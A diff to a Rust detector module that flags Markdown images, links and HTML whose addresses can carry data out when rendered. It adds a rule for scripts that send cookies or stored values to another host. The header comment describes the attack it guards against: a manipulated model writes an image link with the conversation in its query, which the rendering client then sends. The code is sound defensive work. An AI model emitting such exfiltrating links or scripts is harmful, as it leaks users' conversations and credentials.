@@ -3,11 +3,13 @@
 //! A model that was talked into it writes `![](https://host/?q=<the conversation>)`; the client
 //! that renders the answer sends it off. Found are Markdown and HTML that load or link an address
 //! whose query, path or host holds a placeholder, encoded text or sentences. What the address
-//! carries is judged in `payload`, where HTML holds addresses is in `html`. An address in plain
-//! text is not loaded by anybody, and is not judged here.
+//! carries is judged in `payload`, where HTML holds addresses is in `html`, scripts that send what a
+//! browser keeps are in `script`. An address in plain text is not loaded by anybody, and is not judged here.
 
 mod html;
 mod payload;
+mod script;
+mod value;
 
 use std::borrow::Cow;
 use std::sync::Arc;
@@ -27,7 +29,10 @@ const LONGEST: usize = 8192;
 /// Longest label of a Markdown image or link that its span includes.
 const LONGEST_LABEL: usize = 480;
 
-const RULES: [RuleInfo; 5] = [
+/// Most blanks between a reference and its address.
+const MOST_BLANKS: usize = 8;
+
+const RULES: [RuleInfo; 6] = [
     RuleInfo {
         id: "markdown_image",
         description: "Markdown image whose address carries data out when it is shown",
@@ -58,6 +63,12 @@ const RULES: [RuleInfo; 5] = [
         category: "loaded",
         severity: Severity::Medium,
     },
+    RuleInfo {
+        id: "script_send",
+        description: "Script that sends cookies or stored values to another host",
+        category: "loaded",
+        severity: Severity::High,
+    },
 ];
 
 /// A rule; the order is that of [`RULES`].
@@ -68,6 +79,7 @@ enum Kind {
     HtmlLoad,
     HtmlLink,
     ForeignImage,
+    ScriptSend,
 }
 
 /// Places of a text that hold an address.
@@ -113,12 +125,22 @@ pub(crate) const SPEC: Spec = Spec {
 // === impl Exfiltration ===
 
 impl Detect for Exfiltration {
-    fn detect(&self, text: &str, _pace: &Pace<'_>, hits: &mut Vec<Hit>) {
-        places(text, |kind, span, url| self.judge(kind, span, url, hits));
+    fn detect(&self, text: &str, pace: &Pace<'_>, hits: &mut Vec<Hit>) {
+        places(text, pace, |kind, span, url| {
+            self.judge(kind, span, url, hits);
+        });
+        script::find(text, |span| {
+            hits.push(Hit {
+                rule: Kind::ScriptSend as usize,
+                span,
+                score: 0.85,
+                preview: "script that sends what the browser keeps".to_owned(),
+            });
+        });
     }
 
     fn constructs(&self, text: &str, found: &mut dyn FnMut(Span)) {
-        places(text, |_, span, _| found(span));
+        places(text, &Pace::free(), |_, span, _| found(span));
     }
 }
 
@@ -156,16 +178,17 @@ impl Exfiltration {
 }
 
 /// Calls `found` with every place of a text that may hold an address, and the address.
-fn places(text: &str, mut found: impl FnMut(Kind, Span, &str)) {
-    markdown(text, &mut found);
-    references(text, &mut found);
-    html::find(text, found);
+fn places(text: &str, pace: &Pace<'_>, mut found: impl FnMut(Kind, Span, &str)) {
+    markdown(text, pace, &mut found);
+    references(text, pace, &mut found);
+    html::find(text, pace, found);
 }
 
 /// `![label](address)` and `[label](address)`.
-fn markdown(text: &str, found: &mut impl FnMut(Kind, Span, &str)) {
+fn markdown(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &str)) {
     let mut past = 0;
-    for middle in memchr::memmem::find_iter(text.as_bytes(), b"](") {
+    let middles = memchr::memmem::find_iter(text.as_bytes(), b"](");
+    for middle in middles.take_while(|_| pace.step()) {
         if middle < past {
             continue;
         }
@@ -185,8 +208,9 @@ fn markdown(text: &str, found: &mut impl FnMut(Kind, Span, &str)) {
 }
 
 /// `[label]: address` on a line of its own; what refers to it may be an image.
-fn references(text: &str, found: &mut impl FnMut(Kind, Span, &str)) {
-    for middle in memchr::memmem::find_iter(text.as_bytes(), b"]: ") {
+fn references(text: &str, pace: &Pace<'_>, found: &mut impl FnMut(Kind, Span, &str)) {
+    let middles = memchr::memmem::find_iter(text.as_bytes(), b"]:");
+    for middle in middles.take_while(|_| pace.step()) {
         let from = text.floor_char_boundary(middle.saturating_sub(LONGEST_LABEL));
         let line = text[from..middle]
             .rfind('\n')
@@ -195,10 +219,16 @@ fn references(text: &str, found: &mut impl FnMut(Kind, Span, &str)) {
         if !label.starts_with('[') || label[1..].contains('[') {
             continue;
         }
-        let rest = &text[middle + 3..];
+        let rest = &text[middle + 2..];
+        let blanks = rest
+            .bytes()
+            .take(MOST_BLANKS)
+            .take_while(|b| matches!(b, b' ' | b'\t'));
+        let begin = middle + 2 + blanks.count();
+        let rest = &text[begin..];
         let length = rest.find(char::is_whitespace).unwrap_or(rest.len());
-        let end = text.floor_char_boundary(middle + 3 + length.min(LONGEST));
-        let url = &text[middle + 3..end];
+        let end = text.floor_char_boundary(begin + length.min(LONGEST));
+        let url = &text[begin..end];
         let span = Span::new(middle - label.len(), end);
         found(Kind::MarkdownImage, span, url);
     }
